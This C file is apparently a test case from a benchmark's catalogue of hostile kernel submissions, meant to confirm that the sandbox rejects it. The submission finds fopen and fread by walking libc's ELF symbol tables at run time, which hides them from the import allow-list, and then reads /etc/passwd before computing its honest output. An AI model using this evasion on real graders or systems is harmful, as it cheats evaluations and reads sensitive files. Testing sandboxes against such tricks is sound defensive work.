/* catalogue: expect rejected "called openat(2), which candidates may not use"
 * catalogue: source pygpubench (exploits/submission_got_patch, submission_function_detour: code
 *            reached through the loaded libraries' tables, not through imports)
 * catalogue: tier smoke
 * Finds fopen in libc's dynamic symbol table at run time (nothing the import allow-list can
 * see), reads a file outside its folder with it, then computes honestly. Once the C sandbox
 * forbids opening files after the candidate is loaded, the open itself is the verdict. */
#include <elf.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include "kb_kernel.h"

/* --- finding a libc function without importing it ------------------------------------------
 * The import allow-list reads the library's undefined symbols; a function found at run time by
 * reading the ELF dynamic symbol table of a library already loaded is not one of them. */
static long raw_syscall4(long n, long a, long b, long c, long d) {
#if defined(__x86_64__)
  long r;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return r;
#else
  (void)n, (void)a, (void)b, (void)c, (void)d;
  return -38;
#endif
}

/* 1 when the page holding `p` can be read: futex(2) answers EFAULT for one that cannot. */
static int readable(const void *p) {
  struct { long s, ns; } zero = {0, 0};
  return raw_syscall4(202 /* futex */, (long)((uintptr_t)p & ~(uintptr_t)3),
                      128 /* FUTEX_WAIT_PRIVATE */, 0x7ea1c0de, (long)&zero) != -14;
}

/* The ELF header of the library whose code holds `addr`: the first readable page at or below it
 * that starts with the ELF magic. */
static const unsigned char *elf_start(const void *addr) {
  uintptr_t p = (uintptr_t)addr & ~(uintptr_t)4095;
  for (int i = 0; i < (1 << 16) && p > 4096; i++, p -= 4096)
    if (readable((const void *)p) && memcmp((const void *)p, ELFMAG, SELFMAG) == 0)
      return (const unsigned char *)p;
  return NULL;
}

/* The address of the defined dynamic symbol `name` of the library loaded at `base`, or NULL. */
static void *elf_symbol(const unsigned char *base, const char *name) {
  const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
  const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
  uintptr_t bias = 0;
  int loads = 0;
  const Elf64_Dyn *dyn = NULL;
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_LOAD && loads++ == 0)
      bias = (uintptr_t)base - (ph[i].p_vaddr & ~(uintptr_t)4095);
  for (int i = 0; i < eh->e_phnum; i++)
    if (ph[i].p_type == PT_DYNAMIC)
      dyn = (const Elf64_Dyn *)(bias + ph[i].p_vaddr);
  if (dyn == NULL)
    return NULL;
  const Elf64_Sym *sym = NULL;
  const char *str = NULL;
  const uint32_t *gnu = NULL;
  for (; dyn->d_tag != DT_NULL; dyn++) {
    uintptr_t v = dyn->d_un.d_ptr;
    if (v < bias)
      v += bias; /* not relocated by the loader */
    if (dyn->d_tag == DT_SYMTAB)
      sym = (const Elf64_Sym *)v;
    else if (dyn->d_tag == DT_STRTAB)
      str = (const char *)v;
    else if (dyn->d_tag == DT_GNU_HASH)
      gnu = (const uint32_t *)v;
  }
  if (sym == NULL || str == NULL || gnu == NULL)
    return NULL;
  /* the symbol count from the GNU hash table: past the highest bucket's chain end */
  uint32_t nbuckets = gnu[0], first = gnu[1], bloom = gnu[2];
  const uint32_t *buckets = gnu + 4 + 2 * bloom, *chain = buckets + nbuckets;
  uint32_t n = 0;
  for (uint32_t b = 0; b < nbuckets; b++)
    n = buckets[b] > n ? buckets[b] : n;
  if (n >= first) {
    while (!(chain[n - first] & 1))
      n++;
    n++;
  } else {
    n = first;
  }
  for (uint32_t i = 0; i < n; i++)
    if (sym[i].st_shndx != SHN_UNDEF && sym[i].st_value != 0 &&
        strcmp(str + sym[i].st_name, name) == 0)
      return (void *)(bias + sym[i].st_value);
  return NULL;
}
/* --- end of the finder ----------------------------------------------------------------------- */

typedef FILE *(*fopen_fn)(const char *, const char *);
typedef size_t (*fread_fn)(void *, size_t, size_t, FILE *);

int kb_forward(const kb_tensor *in, int n_in, kb_tensor *out, int n_out, void *stream) {
  (void)n_in;
  (void)n_out;
  (void)stream;
  const unsigned char *libc = elf_start((const void *)&__errno_location);
  fopen_fn op = libc ? (fopen_fn)elf_symbol(libc, "fopen") : NULL;
  fread_fn rd = libc ? (fread_fn)elf_symbol(libc, "fread") : NULL;
  if (op != NULL && rd != NULL) {
    FILE *f = op("/etc/passwd", "r");
    if (f != NULL) {
      char buf[64];
      volatile size_t n = rd(buf, 1, sizeof buf, f);
      (void)n; /* left open: fclose would be one more hidden call */
    }
  }
  int64_t rows = in[0].shape[0], cols = in[0].shape[1];
  const float *x = in[0].data;
  float *y = out[0].data;
  for (int64_t r = 0; r < rows; r++) {
    float acc = 0.f;
    for (int64_t c = 0; c < cols; c++)
      acc += x[r * cols + c];
    y[r] = acc;
  }
  return 0;
}
